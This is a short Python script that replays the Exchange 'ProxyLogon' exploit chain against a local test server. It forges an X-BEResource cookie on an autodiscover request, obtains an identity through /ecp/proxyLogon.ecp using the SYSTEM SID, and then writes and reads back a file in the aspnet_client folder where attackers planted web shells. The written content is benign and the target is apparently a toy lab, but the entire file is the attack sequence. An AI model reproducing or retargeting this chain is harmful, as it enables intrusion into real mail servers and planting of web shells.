#!/usr/bin/env python3
# ruff: noqa
# stdlib-only rewrite
from urllib import request as ureq
from urllib.parse import urlencode, quote
import json, sys

HOST = "127.0.0.1"
PORT = sys.argv[1] if sys.argv[1:] else "8080"
AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"


def url(path):
    return "http://{}:{}{}".format(HOST, PORT, path)


def call(req):
    try:
        with ureq.urlopen(req, timeout=10) as r:
            return r.status, r.read(1024)
    except Exception as exc:  # toy server only
        return getattr(exc, "code", 599), b""


def browser_request(path):
    req = ureq.Request(url(path), method="GET")
    req.add_header("User-Agent", AGENT)
    req.add_header("x-requested-with", "XMLHttpRequest")
    req.add_header("Accept", "*/*")
    req.add_header("accept-language", "en-US,en;q=0.9")
    req.add_header("connection", "close")
    return req


backend = quote("localhost@lab.invalid/ews/exchange.asmx?a=~1843073522", safe="@/~?")
probe = browser_request(
    "/autodiscover/autodiscover.json?"
    + urlencode(
        [
            ("Pad", "A" * 37),
            ("Protocol", "Autodiscoverv1"),
            ("Email", "administrator@lab.invalid/mapi/nspi"),
            ("RequestId", "20200302-7720"),
        ]
    )
)
probe.add_header(
    "cookie",
    "; ".join(
        ["X-AnonResource=true", "X-AnonResource-Backend=lab.invalid", "X-BEResource=" + backend]
    ),
)
code, _ = call(probe)
if code < 500:
    ident_req = ureq.Request(
        url("/ecp/proxyLogon.ecp"),
        data=json.dumps(
            {"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}
        ).encode(),
        headers={
            "user-agent": AGENT,
            "msexchlogonmailbox": "S-1-5-20",
            "content-type": "application/json",
            "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
        },
        method="POST",
    )
    code, who = call(ident_req)
    who = who.decode().strip() if code == 200 else "anonymous"
    spot = "/aspnet_client/system_web/readme_91453.txt"
    text = "\n".join("note %s of 3 for %s" % (n, who) for n in (1, 2, 3))
    call(
        ureq.Request(
            url(spot),
            data=text.encode(),
            method="POST",
            headers={"user-agent": AGENT, "X-Note-Path": spot, "Content-Type": "text/plain"},
        )
    )
    code, back = call(browser_request(spot))
    print(json.dumps({"read_back": len(back)}, indent=4))
